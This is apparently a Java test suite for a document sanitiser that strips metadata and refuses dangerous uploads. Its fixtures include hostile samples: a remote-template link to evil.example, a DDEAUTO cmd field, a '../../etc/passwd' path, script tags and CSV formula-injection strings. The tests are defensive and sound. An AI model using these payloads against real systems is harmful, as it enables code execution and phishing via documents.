package eu.savoirfaire.catalogue.attachment.file;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import eu.savoirfaire.infra.document.DocumentRefusal;
import eu.savoirfaire.infra.refusal.Refusal;
import eu.savoirfaire.infra.refusal.Refused;
import java.awt.Color;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.Map;
import java.util.Random;
import javax.imageio.ImageIO;
import org.apache.pdfbox.Loader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes out may be given to others, and what may not does not come out. */
class CleaningTest {
    private static final Cleaning CLEANING = new Cleaning();

    @Test
    void anOfficeFileLosesTheNamesOfItsWriters() {
        var clean = clean("foglio.docx", Files.docx("Modulo di iscrizione", Map.of()));

        assertThat(clean.kind()).isEqualTo(FileKind.DOCX);
        assertThat(clean("di nuovo.docx", clean.bytes()).bytes()).isEqualTo(clean.bytes());
        assertThat(new String(clean.bytes(), UTF_8)).doesNotContain("Anna");
    }

    @ParameterizedTest
    @ValueSource(strings = {"word/vbaProject.bin", "Basic/Standard/Module1.xml", "xl/macrosheets/sheet1.xml"})
    void macrosAreRefused(String part) {
        assertThat(refusal("a.docx", Files.docx("x", Map.of(part, "x"))))
                .isInstanceOf(DocumentRefusal.WithMacros.class);
    }

    @Test
    void aDocumentThatSaysItHasMacrosIsRefused() {
        assertThat(refusal(
                        "a.docx",
                        Files.docx("x", Map.of("[Content_Types].xml", "<Types a=\"macroEnabled.main+xml\"/>"))))
                .isInstanceOf(DocumentRefusal.WithMacros.class);
    }

    @Test
    void whatActsByItselfIsRefused() {
        assertActive(Map.of("word/embeddings/oleObject1.bin", "x"), "embedded");
        assertActive(Map.of("word/activeX/activeX1.xml", "<x/>"), "script");
        assertActive(Map.of("word/comments.xml", "<x/>"), "remarks");
        assertActive(
                Map.of(
                        "word/_rels/settings.xml.rels",
                        "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"),
                "linked");
        assertActive(
                Map.of(
                        "word/footnotes.xml",
                        "<w:a xmlns:w=\"w\"><w:instrText> DDEAUTO c:\\\\windows cmd</w:instrText></w:a>"),
                "script");
    }

    @Test
    void aLinkThatIsFollowedOnlyWhenAskedIsFine() {
        var rels =
                "<Relationships><Relationship Type=\"http://x/hyperlink\" Target=\"http://example.org\" TargetMode=\"External\"/></Relationships>";

        assertThat(clean("a.docx", Files.docx("x", Map.of("word/_rels/document.xml.rels", rels)))
                        .kind())
                .isEqualTo(FileKind.DOCX);
    }

    @Test
    void aBombIsNotOpened() {
        var bomb = Files.docx("x", Map.of("word/styles.xml", " ".repeat(60_000_000)));

        assertThat(bomb.length).isLessThan(1_000_000);
        assertThat(refusal("a.docx", bomb)).isInstanceOf(DocumentRefusal.ArchiveBomb.class);
    }

    @Test
    void anyOtherArchiveIsRefused() {
        assertThat(refusal("a.docx", Files.zip(Map.of("hello.txt", "hello"))))
                .isInstanceOf(DocumentRefusal.Unsupported.class);
        assertThat(refusal("a.docx", Files.docx("x", Map.of("../../etc/passwd", "x"))))
                .isInstanceOf(DocumentRefusal.Damaged.class);
    }

    @Test
    void whatIsHungOnToAPictureIsGone() {
        var hidden = Files.zip(Map.of("index.html", "<script>alert(1)</script>"));

        var clean = clean("foto.png", Files.joined(Files.picture("png", 30, 20), hidden));

        assertThat(Files.holds(clean.bytes(), "index.html")).isFalse();
        assertThat(clean.width()).isEqualTo(30);
    }

    @Test
    void aPhotoIsUprightAndSaysNothingOfItsPlace() throws IOException {
        var photo = Files.photo(6);
        assertThat(Files.holds(photo, Files.SECRET)).isTrue();

        var clean = clean("foto.jpg", photo);

        assertThat(Files.holds(clean.bytes(), Files.SECRET)).isFalse();
        assertThat(Files.holds(clean.bytes(), "Exif")).isFalse();
        var drawn = ImageIO.read(new ByteArrayInputStream(clean.bytes()));
        assertThat(drawn.getWidth()).isEqualTo(20);
        assertThat(drawn.getHeight()).isEqualTo(40);
        // turned to the right: what was above is at the right
        assertThat(new Color(drawn.getRGB(17, 20)).getRed()).isGreaterThan(200);
        assertThat(new Color(drawn.getRGB(2, 20)).getBlue()).isGreaterThan(200);
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 4, 5, 6, 7, 8})
    void everyWayToHoldACameraIsTurnedRight(int orientation) throws IOException {
        var drawn = ImageIO.read(new ByteArrayInputStream(
                clean("foto.jpeg", Files.photo(orientation)).bytes()));

        assertThat(drawn.getWidth() > drawn.getHeight()).isEqualTo(orientation < 5);
        var red = switch (orientation) {
            case 1, 2 -> drawn.getRGB(20, 2);
            case 3, 4 -> drawn.getRGB(20, 17);
            case 5, 8 -> drawn.getRGB(2, 20);
            default -> drawn.getRGB(17, 20);
        };
        assertThat(new Color(red).getRed()).as("orientation " + orientation).isGreaterThan(200);
    }

    @Test
    void aLargePictureIsMadeSmaller() {
        var clean = clean("foto.png", Files.picture("png", 4_800, 100));

        assertThat(clean.width()).isEqualTo(2_400);
        assertThat(clean.height()).isEqualTo(50);
    }

    @Test
    void anEnormousOneIsNotDrawn() {
        var png = Files.picture("png", 10, 10);
        // the size stands in the first chunk, whose checksum the reader does not ask for
        png[16] = 0;
        png[17] = 1;
        png[20] = 0;
        png[21] = 1;

        assertThat(refusal("foto.png", png)).isInstanceOf(DocumentRefusal.HugePicture.class);
    }

    @Test
    void brokenPicturesAreRefusedAndNothingElseHappens() {
        var random = new Random(5);
        for (var round = 0; round < 200; round++) {
            var picture = Files.picture(round % 2 == 0 ? "png" : "jpeg", 20, 20);
            for (var changes = 0; changes < 20; changes++) {
                picture[8 + random.nextInt(picture.length - 8)] = (byte) random.nextInt();
            }
            var refused = catchThrowableOfType(Refused.class, () -> CLEANING.clean("foto", picture, "IT"));
            if (refused != null) {
                assertThat(refused.refusal()).isInstanceOf(DocumentRefusal.class);
            }
        }
    }

    @Test
    void aPdfIsWrittenAnewWithoutItsAuthor() throws IOException {
        var clean = clean("guida.pdf", Files.joined(Files.pdf("Guida", pdf -> {}), "<script>".getBytes(UTF_8)));

        assertThat(Files.holds(clean.bytes(), "<script>")).isFalse();
        try (var pdf = Loader.loadPDF(clean.bytes())) {
            assertThat(pdf.getDocumentInformation().getAuthor()).isNull();
            assertThat(pdf.getNumberOfPages()).isEqualTo(1);
        }
    }

    @Test
    void aPdfThatActsOrHidesIsRefused() {
        assertThat(refusal("a.pdf", Files.pdf("x", Files::script)))
                .isEqualTo(new DocumentRefusal.Active("a.pdf", "script"));
        assertThat(refusal("a.pdf", Files.pdf("x", Files::embed)))
                .isEqualTo(new DocumentRefusal.Active("a.pdf", "embedded"));
    }

    @Test
    void aFileThatIsNotWhatItsNameSaysIsRefused() {
        assertThat(refusal("foto.png", Files.pdf("x", pdf -> {})))
                .isEqualTo(new FileRefusal.WrongName("foto.png", FileKind.PDF));
        assertThat(refusal("foto.jpg", Files.picture("png", 5, 5)))
                .isEqualTo(new FileRefusal.WrongName("foto.jpg", FileKind.PNG));
        assertThat(refusal("tabella.xlsx", Files.docx("x", Map.of())))
                .isEqualTo(new FileRefusal.WrongName("tabella.xlsx", FileKind.DOCX));
    }

    @ParameterizedTest
    @ValueSource(strings = {"disegno.svg", "pagina.html", "foto.png", "programma.exe"})
    void aDrawingThatCanHoldAScriptIsRefusedWhateverItIsCalled(String name) {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(UTF_8);

        assertThat(refusal(name, svg)).isInstanceOf(FileRefusal.OtherKind.class);
    }

    @Test
    void textIsTextAndNothingElse() {
        var clean = clean("nota.txt", "Perché <b>no</b>?\n".getBytes(ISO_8859_1));

        assertThat(new String(clean.bytes(), UTF_8)).startsWith("Perché <b>no</b>?");
        assertThat(refusal("nota.txt", new byte[] {1, 2, 0, 3, 0, 0, 7, 0, 0}))
                .isInstanceOf(FileRefusal.OtherKind.class);
        assertThat(refusal("nota.txt", new byte[0])).isInstanceOf(DocumentRefusal.Empty.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "nome;=HYPERLINK(\"http://evil.example\")",
                "a,@SUM(1)",
                "\"=1+1\",2",
                "a\t+cmd|' /C calc'!A0",
                "-cmd"
            })
    void aTableWithAFormulaIsRefused(String line) {
        assertThat(refusal("t.csv", ("a,b\n" + line + "\n").getBytes(UTF_8)))
                .isEqualTo(new FileRefusal.Formula("t.csv", 2));
    }

    @Test
    void aTableWithSignedNumbersIsFine() {
        assertThat(clean("t.csv", "a,b\n-5,+3\n-1.5,- none\n".getBytes(UTF_8)).kind())
                .isEqualTo(FileKind.CSV);
    }

    @Test
    void whatShowsAnAddressOrANumberIsRefused() {
        assertThat(refusal("a.txt", "Scrivi a anna@rete.example".getBytes(UTF_8)))
                .isEqualTo(new FileRefusal.PersonalDetails("a.txt", 1));
        assertThat(refusal("a.docx", Files.docx("anna@rete.example", Map.of())))
                .isInstanceOf(FileRefusal.PersonalDetails.class);
        assertThat(refusal("a.pdf", Files.pdf("Tel. +39 055 2768224", pdf -> {})))
                .isInstanceOf(FileRefusal.PersonalDetails.class);
    }

    private static void assertActive(Map<String, String> parts, String what) {
        assertThat(refusal("a.docx", Files.docx("x", parts))).isEqualTo(new DocumentRefusal.Active("a.docx", what));
    }

    private static CleanFile clean(String name, byte[] bytes) {
        return CLEANING.clean(name, bytes, "IT");
    }

    private static Refusal refusal(String name, byte[] bytes) {
        return catchThrowableOfType(Refused.class, () -> clean(name, bytes)).refusal();
    }
}
